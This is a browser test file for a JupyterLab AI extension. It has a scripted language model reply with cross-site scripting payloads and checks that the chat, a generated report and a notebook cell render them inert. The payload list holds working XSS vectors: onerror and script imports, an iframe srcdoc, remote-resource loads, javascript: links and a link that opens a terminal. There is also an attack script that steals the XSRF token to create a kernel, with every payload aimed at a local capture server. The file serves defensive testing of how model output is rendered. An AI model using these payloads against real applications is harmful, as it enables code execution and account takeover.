"""Model-written text in the browser is data, never code: a real `jupyter lab`, Debian's Chromium,
the scripted model answering with XSS payloads (issue 31, the browser).

Each payload would, if it ran or loaded, reach a capture server of this module on 127.0.0.1: the
59-character CSV-header payload imports a script from it that creates a kernel through the lab's
REST API and then reports back; the others load a remote resource (image, CSS, poster, srcset,
object...) from it. Three places show the model's text: a `%%nini` cell's answer in a notebook, the
sidebar's chat answer, and a report with the payload in its conclusions opened from the Reports
tab. In each, the harmless text is shown, the rendered DOM holds no active content, no request
reaches the capture server and no kernel is created.

"Nothing arrived" is judged after a sentinel: the test itself puts an element into the page whose
broken image imports a script from the capture server, which makes one same-origin request and
reports back, the same chain the CSV-header payload takes, started after the payload was shown.
"""

from __future__ import annotations

import secrets
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests import timeouts
from tests.llm_server import ScriptedLLM, text, tool_call
from tests.test_safe_html import PAYLOADS
from tests.ui.conftest import Lab, ask, current_session, open_sidebar, screenshot, wait_for_connected_kernel, wait_idle

pytestmark = pytest.mark.slow

HARMLESS = "Revenue grew 12% in March"
CELLS = ".jp-NotebookPanel .jp-Notebook .jp-Cell"

# The chain of the CSV-header payload: a kernel created with the page's own cookie and XSRF token.
ATTACK_JS = """const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || '';
const made = await fetch(location.origin + '/api/kernels', {method: 'POST', body: '{}',
  headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'}});
await fetch('%(capture)s/pwned?status=' + made.status);
"""
SENTINEL_JS = """await fetch(location.origin + '/api/status');
await fetch('%(capture)s/sentinel-done');
"""
# a new URL each time: the page imports a module URL once, then answers from its module map
SENTINEL = """([capture, n]) => { const img = document.createElement('img'); img.hidden = true;
  img.onerror = () => import(`${capture}/sentinel.js?${n}`); img.src = `nini-sentinel-missing-${n}.png`;
  document.body.append(img); }"""
# what must not be in the DOM the model's text became
ACTIVE = """root => {
  const found = [];
  for (const node of root.querySelectorAll('*')) {
    const tag = node.tagName.toLowerCase();
    if (['script', 'iframe', 'frame', 'object', 'embed', 'link', 'form', 'svg', 'video', 'audio', 'source', 'style',
         'meta', 'base', 'input', 'button', 'math'].includes(tag)) found.push(tag);
    for (const attr of node.getAttributeNames()) {
      const value = node.getAttribute(attr) || '';
      if (attr.startsWith('on') || attr.startsWith('data-commandlinker')
          || ['style', 'srcset', 'poster', 'background', 'formaction', 'srcdoc'].includes(attr))
        found.push(`${tag}[${attr}]`);
      if (attr === 'src' && !value.startsWith('data:image/')) found.push(`${tag}[src=${value}]`);
      if (attr === 'href' && /^\\s*(javascript|data|vbscript):/i.test(value)) found.push(`${tag}[href=${value}]`);
    }
  }
  return found;
}"""


def payload(capture: str) -> str:
    """An answer that reads well and carries one attack of each kind, each in its own block."""
    attacks = [
        f"<img src=x onerror=\"import('{capture.removeprefix('http:')}/x.js')\">",  # the CSV header (59 characters)
        f"<script>import('{capture}/script.js')</script>",
        f"<svg onload=\"import('{capture}/svg.js')\"></svg>",
        f"<iframe srcdoc=\"<img src=x onerror=parent.eval(&quot;import('{capture}/srcdoc.js')&quot;)>\"></iframe>",
        f'<img src="{capture}/remote.png" alt="remote chart">',
        f"![tracked]({capture}/markdown.png)",
        f'<div style="background-image: url({capture}/css.png)">styled</div>',
        f'<link rel="stylesheet" href="{capture}/style.css">',
        f'<video poster="{capture}/poster.png"></video>',
        f'<picture><source srcset="{capture}/srcset.png"><img alt="pictured"></picture>',
        f'<input type="image" src="{capture}/input.png">',
        f'<object data="{capture}/object.html"></object>',
        f'<embed src="{capture}/embed.svg">',
        f'<audio src="{capture}/audio.mp3" autoplay></audio>',
        f'<form action="{capture}/form"><button>go</button></form>',
        f"[click me](javascript:import('{capture}/click.js'))",
        '<a href="&#106;avascript:alert(1)">encoded</a>',
        '<a data-commandlinker-command="terminal:create-new">a click runs a command</a>',
    ]
    return "\n\n".join([f"**{HARMLESS}**, to 15.0.", "| month | revenue |\n|---|---|\n| 3 | 15.0 |", *attacks])


class Capture:
    """An HTTP server on 127.0.0.1 that records every request and serves the attack's scripts."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self._changed = threading.Condition()
        capture = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with capture._changed:
                    capture.requests.append(self.path)
                    capture._changed.notify_all()
                script = {"/x.js": ATTACK_JS, "/sentinel.js": SENTINEL_JS}.get(self.path.split("?")[0])
                body = (script % {"capture": capture.url}).encode() if script else b""
                self.send_response(200 if script else 404)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")  # a module import is a CORS request
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_OPTIONS = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def wait_for(self, path: str, timeout_s: float = 60) -> None:
        with self._changed:
            if not self._changed.wait_for(lambda: path in self.requests, timeout=timeout_s):
                raise TimeoutError(f"{path} never reached the capture server; it saw {self.requests}")

    def clear(self) -> None:
        with self._changed:
            self.requests.clear()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def capture() -> Iterator[Capture]:
    server = Capture()
    yield server
    server.stop()


def kernels(lab: Lab) -> set[str]:
    return {kernel["id"] for kernel in lab.kernels()}


def assert_nothing_ran(page: Any, capture: Capture, lab: Lab, before: set[str], shown: Any) -> None:
    """The DOM of ``shown`` (a locator of one element or more) holds no active content; after the
    sentinel's round trip, the capture server saw nothing but the sentinel and the lab has the
    kernels it had."""
    assert shown.evaluate_all(f"nodes => nodes.flatMap({ACTIVE})") == []
    sentinel = secrets.token_hex(4)
    page.evaluate(SENTINEL, [capture.url, sentinel])
    capture.wait_for("/sentinel-done")
    assert capture.requests == [f"/sentinel.js?{sentinel}", "/sentinel-done"]
    assert kernels(lab) == before


def show_chat(page: Any) -> None:
    """nini's chat in view (clicking the tab of a sidebar already shown would fold it away)."""
    if not page.is_visible("#nini-panel .nini-chat .nini-input"):
        open_sidebar(page)
    page.click('#nini-panel .lm-TabBar-tab:has-text("Chat")')


def test_a_chat_answer_with_xss_payloads_runs_nothing(page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture) -> None:
    show_chat(page)
    before = kernels(lab)
    capture.clear()
    llm.reply(text(payload(capture.url) + "\n\n" + "\n\n".join(PAYLOADS.values())))
    ask(page, "What does the CSV header say?")
    answer = page.locator(".nini-assistant").last
    answer.locator("table").first.wait_for()  # Markdown, once the answer is whole
    wait_idle(page)
    assert HARMLESS in answer.locator("strong").first.inner_text()
    assert answer.locator("table").first.locator("td").all_inner_texts() == ["3", "15.0"]
    assert_nothing_ran(page, capture, lab, before, answer)
    screenshot(page, "xss-01-chat")


def test_a_report_with_a_payload_in_its_conclusions_runs_nothing(
    page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture
) -> None:
    show_chat(page)
    before = kernels(lab)
    capture.clear()
    llm.reply(
        tool_call(
            "generate_report",
            title="March revenue",
            summary_text=f"{HARMLESS}.",
            conclusions=payload(capture.url),
            formats=["md", "html"],
        ),
        text("The report is written."),
    )
    ask(page, "Write the report")
    page.wait_for_selector(".nini-assistant:has-text('The report is written')")
    wait_idle(page)
    page.click('#nini-panel .lm-TabBar-tab:has-text("Reports")')
    page.locator(".nini-report-open").first.click()
    body = page.frame_locator("iframe.nini-report-frame").locator("main")
    body.locator("h1").wait_for()
    assert "March revenue" in body.locator("h1").inner_text()
    assert HARMLESS in body.inner_text()
    assert_nothing_ran(page, capture, lab, before, body)
    session = current_session(page)
    [report] = [r for r in lab.nini("GET", f"sessions/{session}/reports") if r["title"] == "March revenue"]
    html = lab_file(lab, session, report["files"]["html"])
    # the file itself, not only the frame (whose CSP would stop what it holds), parsed inert
    found = page.evaluate(
        f"html => ({ACTIVE})(new DOMParser().parseFromString(html, 'text/html').querySelector('main'))", html
    )
    assert found == []
    screenshot(page, "xss-02-report")


def lab_file(lab: Lab, session: str, path: str) -> str:
    request = urllib.request.Request(
        f"{lab.url}/nini/api/sessions/{session}/artifacts/{path}", headers={"Authorization": f"token {lab.token}"}
    )
    with urllib.request.urlopen(request, timeout=timeouts.timeout(30)) as response:
        return response.read().decode("utf-8")


def test_a_nini_cell_answer_with_xss_payloads_runs_nothing(
    page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture
) -> None:
    lab.request(
        "PUT",
        "/api/contents/xss.ipynb",
        {
            "type": "notebook",
            "content": {
                "cells": [
                    {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}
                    for source in ("%load_ext nini", "%%nini\nWhat does the CSV header say?")
                ],
                "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
                "nbformat": 4,
                "nbformat_minor": 5,
            },
        },
    )
    if not page.is_visible("#filebrowser"):
        page.click('.jp-SideBar.jp-mod-left [data-id="filebrowser"]')
    page.dblclick('.jp-DirListing-item[title*="xss.ipynb"]')
    page.wait_for_selector(CELLS)
    wait_for_connected_kernel(lab)
    before = kernels(lab)
    capture.clear()
    llm.reply(text(payload(capture.url)))
    page.locator(CELLS).nth(0).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("Shift+Enter")
    cell = page.locator(CELLS).nth(1)
    cell.locator(".jp-OutputArea-output:has-text('nini: finished')").wait_for(timeout=timeouts.timeout_ms(90))
    answer = cell.locator(".jp-OutputArea-output:has(table)").last
    assert HARMLESS in answer.locator("strong").inner_text()
    assert answer.locator("table td").all_inner_texts() == ["3", "15.0"]
    assert_nothing_ran(page, capture, lab, before, cell.locator(".jp-OutputArea-output"))  # not the area's own icons
    screenshot(page, "xss-03-nini-cell")
